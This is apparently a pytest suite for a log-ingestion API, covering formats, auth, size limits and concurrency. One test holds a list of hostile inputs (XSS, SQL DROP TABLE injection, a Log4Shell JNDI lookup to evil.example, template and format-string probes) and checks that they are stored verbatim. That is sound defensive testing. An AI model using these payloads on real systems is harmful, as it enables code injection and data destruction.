"""POST /api/v1/ingest against a real `lightsoc run` (127.0.0.1, real pipeline and store).

Every test searches right after the response, without waiting: the answer
comes only after the commit, so the events must already be there.
"""

from __future__ import annotations

import base64
import gzip
import json
import socket
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

from tests.helpers import WEB_LOG, LightsocServer, cli, cli_ndjson, free_port, write_config
from tests.web.conftest import IngestServer

INGEST = "/api/v1/ingest"
NDJSON = {"Content-Type": "application/x-ndjson"}
LIMIT = 32 << 20


def post(
    s: IngestServer,
    body: bytes | Iterator[bytes],
    token: str | None = None,
    headers: dict[str, str] | None = None,
    **params: str,
) -> httpx.Response:
    h = {"Authorization": f"Bearer {token or s.ingest}", **(headers or {})}
    if token == "":
        del h["Authorization"]
    return httpx.post(f"{s.url}{INGEST}", content=body, headers=h, params=params, timeout=120)


def ndjson(docs: list[dict]) -> bytes:
    return b"".join(json.dumps(d).encode() + b"\n" for d in docs)


def test_implicit_source_is_listed_only_once_used(ingest_server: IngestServer) -> None:
    s = ingest_server
    stats = httpx.get(f"{s.url}/api/v1/stats", headers={"Authorization": f"Bearer {s.read}"})
    before = [x for x in stats.json()["sources"] if x["id"] == "http"]
    resp = post(s, ndjson([{"message": "stats probe", "event": {"dataset": "probe"}}]))
    assert resp.status_code == 200, resp.text
    stats = httpx.get(f"{s.url}/api/v1/stats", headers={"Authorization": f"Bearer {s.read}"})
    [http] = [x for x in stats.json()["sources"] if x["id"] == "http"]
    assert http["type"] == "http" and http["events"] >= 1
    assert before == []  # the module's fresh server: hidden until used


def test_ndjson_ecs_is_stored_with_its_fields(ingest_server: IngestServer) -> None:
    s = ingest_server
    docs = [
        {
            "@timestamp": f"2026-03-01T08:00:0{i}.250Z",
            "message": f"login {i}",
            "event": {"dataset": "ndjson.test", "action": "login", "outcome": "failure"},
            "source": {"ip": f"198.51.100.{i}", "port": 40000 + i},
            "user": {"name": "alice"},
            "custom": {"team": "blue", "n": i},
        }
        for i in range(3)
    ]
    resp = post(s, ndjson(docs), headers=NDJSON)
    assert resp.status_code == 200, resp.text
    assert resp.json() == {"received": 3, "events": 3, "parse_failures": 0}
    events = s.events("event.dataset:ndjson.test")
    assert [e["message"] for e in events] == ["login 0", "login 1", "login 2"]
    for i, e in enumerate(events):
        assert e["@timestamp"] == f"2026-03-01T08:00:0{i}.250000Z"
        assert e["source.ip"] == f"198.51.100.{i}" and e["source.port"] == 40000 + i
        assert (e["user.name"], e["event.action"], e["event.outcome"]) == (
            "alice",
            "login",
            "failure",
        )
        assert json.loads(e["labels"]) == {"custom.team": "blue", "custom.n": i}
        assert json.loads(e["event.original"]) == docs[i]
        assert e["lightsoc.source"] == "http"
    # the CLI next to the server finds them too
    rows = cli_ndjson(
        "search", "event.dataset:ndjson.test", "--since", "all", "--format", "json",
        "--data-dir", s.server.data_dir,
    )  # fmt: skip
    assert sorted(r["message"] for r in rows) == ["login 0", "login 1", "login 2"]


def test_gzip_ndjson(ingest_server: IngestServer) -> None:
    s = ingest_server
    docs = [{"message": f"zipped {i}", "event": {"dataset": "gz.test"}} for i in range(500)]
    body = gzip.compress(ndjson(docs))
    resp = post(s, body, headers={**NDJSON, "Content-Encoding": "gzip"})
    assert resp.status_code == 200, resp.text
    assert resp.json()["events"] == 500
    assert s.search("event.dataset:gz.test")["total"] == 500
    assert s.events('message:"zipped 499"')[0]["event.original"] == json.dumps(docs[499])


def test_raw_nginx_lines_are_parsed(ingest_server: IngestServer) -> None:
    s = ingest_server
    lines = WEB_LOG.read_bytes().splitlines(keepends=True)[:200]
    ips = {ln.split(b" ", 1)[0].decode() for ln in lines}
    resp = post(
        s, b"".join(lines), headers={"Content-Type": "text/plain"}, format="nginx_combined",
        dataset="web.upload",
    )  # fmt: skip
    assert resp.status_code == 200, resp.text
    assert resp.json() == {"received": 200, "events": 200, "parse_failures": 0}
    events = s.events("event.dataset:web.upload")
    assert len(events) == 200
    assert {e["source.ip"] for e in events} == ips
    assert sorted(e["event.original"] for e in events) == sorted(
        ln.decode().rstrip("\n") for ln in lines
    )
    [first] = [e for e in events if e["event.original"] == lines[0].decode().rstrip("\n")]
    assert first["@timestamp"] == "2015-05-17T10:05:03Z"
    assert first["http.request.method"] == "GET" and first["http.response.status_code"] == 200


def test_raw_lines_default_to_auto_and_failures_are_kept(ingest_server: IngestServer) -> None:
    s = ingest_server
    line = WEB_LOG.read_bytes().splitlines()[0]
    body = line + b"\r\n\n" + b"this is not a known format 8a1f\n"
    resp = post(s, body, headers={"Content-Type": "text/plain"})
    assert resp.status_code == 200, resp.text
    assert resp.json() == {"received": 3, "events": 2, "parse_failures": 1}
    [failed] = s.events('event.original:"this is not a known format 8a1f"')
    assert "parse_failure" in failed["tags"]
    # JSON with a bad line: the bad one is kept as a failure, not dropped
    resp = post(s, b'{"message": "good 5c2e"}\n{not json 5c2e\n', headers=NDJSON)
    assert resp.json() == {"received": 2, "events": 2, "parse_failures": 1}
    assert s.search('event.original:"{not json 5c2e"')["total"] == 1


def test_format_parameter_is_checked(ingest_server: IngestServer) -> None:
    resp = post(ingest_server, b"x\n", format="nginx_combind")
    assert resp.status_code == 400
    assert "nginx_combined" in resp.json()["detail"]  # did you mean ...


def test_empty_body(ingest_server: IngestServer) -> None:
    resp = post(ingest_server, b"", headers=NDJSON)
    assert resp.status_code == 200
    assert resp.json() == {"received": 0, "events": 0, "parse_failures": 0}


def test_oversize_body_is_413_and_stores_nothing(ingest_server: IngestServer) -> None:
    s = ingest_server
    before = s.search("")["total"]
    line = b'{"message": "oversize"}\n'
    big = line * (LIMIT // len(line) + 1)
    assert post(s, big, headers=NDJSON).status_code == 413  # Content-Length says so

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted while reading
        for _ in range(LIMIT // len(big[: 1 << 20]) + 2):
            yield big[: 1 << 20]

    assert post(s, chunks(), headers=NDJSON).status_code == 413
    bomb = gzip.compress(b"\n" * (LIMIT + 1))
    assert len(bomb) < 100_000
    resp = post(s, bomb, headers={**NDJSON, "Content-Encoding": "gzip"})
    assert resp.status_code == 413
    assert s.search("")["total"] == before


def test_bad_encodings(ingest_server: IngestServer) -> None:
    s = ingest_server
    assert post(s, b"not gzip at all", headers={"Content-Encoding": "gzip"}).status_code == 400
    truncated = gzip.compress(b'{"message": "cut"}\n' * 100)[:-20]
    assert post(s, truncated, headers={"Content-Encoding": "gzip"}).status_code == 400
    assert post(s, b"x", headers={"Content-Encoding": "br"}).status_code == 415
    assert s.search('message:"cut"')["total"] == 0


def test_auth(ingest_server: IngestServer) -> None:
    s = ingest_server
    body = ndjson([{"message": "auth probe", "event": {"dataset": "auth.probe"}}])
    resp = post(s, body, token="")
    assert resp.status_code == 401 and resp.headers["www-authenticate"] == "Bearer"
    assert post(s, body, token="lsoc_" + "x" * 43).status_code == 401
    resp = post(s, body, token=s.read)
    assert resp.status_code == 403 and "cannot ingest" in resp.json()["detail"]
    assert s.search("event.dataset:auth.probe")["total"] == 0
    assert post(s, body, token=s.admin).status_code == 200
    for header in (
        f"ApiKey {s.ingest}",
        "ApiKey " + base64.b64encode(f"shipper:{s.ingest}".encode()).decode(),
        "Basic " + base64.b64encode(f"anyone:{s.ingest}".encode()).decode(),
    ):
        resp = httpx.post(f"{s.url}{INGEST}", content=body, headers={"Authorization": header})
        assert resp.status_code == 200, (header.split()[0], resp.text)
    assert s.search("event.dataset:auth.probe")["total"] == 4
    # the ingest token reads nothing
    resp = httpx.get(
        f"{s.url}/api/v1/search", params={"since": "all"},
        headers={"Authorization": f"Bearer {s.ingest}"},
    )  # fmt: skip
    assert resp.status_code == 403


ATTACKS = [
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    '"},{"message":"injected',
    "\x1b[31mred\x1b[0m \u202egnp.exe",
    "${jndi:ldap://evil.example/a}",
    "line\\nbreak %s %n {{7*7}}",
    "日本語 🙂 \u0000 nul",
]


def test_attacker_content_is_stored_verbatim(ingest_server: IngestServer) -> None:
    s = ingest_server
    docs = [
        {"message": a, "event": {"dataset": "attack.json"}, "user": {"name": a}} for a in ATTACKS
    ]
    resp = post(s, ndjson(docs), headers=NDJSON)
    assert resp.status_code == 200, resp.text
    events = s.events("event.dataset:attack.json")
    assert [e["message"] for e in events] == ATTACKS
    assert [e["user.name"] for e in events] == ATTACKS
    assert [json.loads(e["event.original"]) for e in events] == docs
    raw = "\n".join(a.replace("\x00", "") for a in ATTACKS) + "\n"
    resp = post(s, raw.encode(), format="syslog", dataset="attack.raw")
    assert resp.status_code == 200, resp.text
    stored = [e["event.original"] for e in s.events("event.dataset:attack.raw")]
    assert sorted(stored) == sorted(raw.splitlines())
    assert s.search("")["total"] > len(ATTACKS)  # the table survived


def test_concurrent_requests_are_each_committed_before_their_answer(
    ingest_server: IngestServer,
) -> None:
    s = ingest_server

    def one(n: int) -> int:
        docs = [{"message": f"c{n}-{i}", "event": {"dataset": f"conc.{n}"}} for i in range(50)]
        resp = post(s, ndjson(docs), headers=NDJSON)
        assert resp.status_code == 200, resp.text
        return s.search(f"event.dataset:conc.{n}")["total"]

    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(one, range(16))) == [50] * 16


@pytest.mark.parametrize("path", ["/api/v1/health", "/api/v1/stats"])
def test_api_is_not_shadowed(ingest_server: IngestServer, path: str) -> None:
    resp = httpx.get(
        f"{ingest_server.url}{path}", headers={"Authorization": f"Bearer {ingest_server.read}"}
    )
    assert resp.status_code == 200
    assert "x-elastic-product" not in resp.headers


# -- a configured source with its own listener ---------------------------------
def test_configured_source_on_its_own_listener(tmp_path: Path) -> None:
    from elasticsearch import Elasticsearch, helpers

    port = free_port()
    config = write_config(
        tmp_path / "lightsoc.yml",
        {
            "edge": {
                "type": "http",
                "listen": f"127.0.0.1:{port}",
                "format": "nginx_combined",
                "dataset": "edge.logs",
                "tags": ["edge"],
            }
        },
        data_dir=tmp_path / "data",
    )
    server = LightsocServer(["--config", config], cwd=tmp_path, data_dir=tmp_path / "data")
    try:
        s = IngestServer(server.start())
        edge = f"http://127.0.0.1:{port}"
        lines = WEB_LOG.read_bytes().splitlines(keepends=True)[:10]
        resp = httpx.post(
            f"{edge}{INGEST}",
            content=b"".join(lines),  # no format: the source's (nginx_combined)
            headers={"Authorization": f"Bearer {s.ingest}", "Content-Type": "text/plain"},
        )
        assert resp.status_code == 200, resp.text
        assert resp.json() == {"received": 10, "events": 10, "parse_failures": 0}
        es = Elasticsearch(edge, api_key=s.ingest)
        assert es.info()["version"]["number"].startswith("8.")
        assert helpers.bulk(es, [{"_index": "x", "message": "via es"}]) == (1, [])
        events = s.events("lightsoc.source:edge")
        assert len(events) == 11
        assert {e["event.dataset"] for e in events} == {"edge.logs"}
        assert all(e["tags"] == ["edge"] for e in events)
        assert sum(1 for e in events if e.get("source.ip")) == 10
        # the listener is ingest only; the web server keeps its own ingest source
        read = {"Authorization": f"Bearer {s.read}"}
        assert httpx.get(f"{edge}/api/v1/search", headers=read).status_code == 404
        resp = httpx.post(
            f"{s.url}{INGEST}",
            content=b'{"message": "main"}\n',
            headers={"Authorization": f"Bearer {s.ingest}", **NDJSON},
        )
        assert resp.status_code == 200
        assert [e["lightsoc.source"] for e in s.events("message:main")] == ["http"]
        assert server.stop() == 0
        # a taken port is one clear error naming the setting
        with socket.socket() as taken:
            taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)  # past TIME_WAIT
            taken.bind(("127.0.0.1", port))
            taken.listen(1)
            res = cli("run", "--config", config, cwd=tmp_path)
        assert res.returncode != 0
        assert "sources.edge.listen" in res.stderr + res.stdout
    finally:
        server.ensure_stopped()
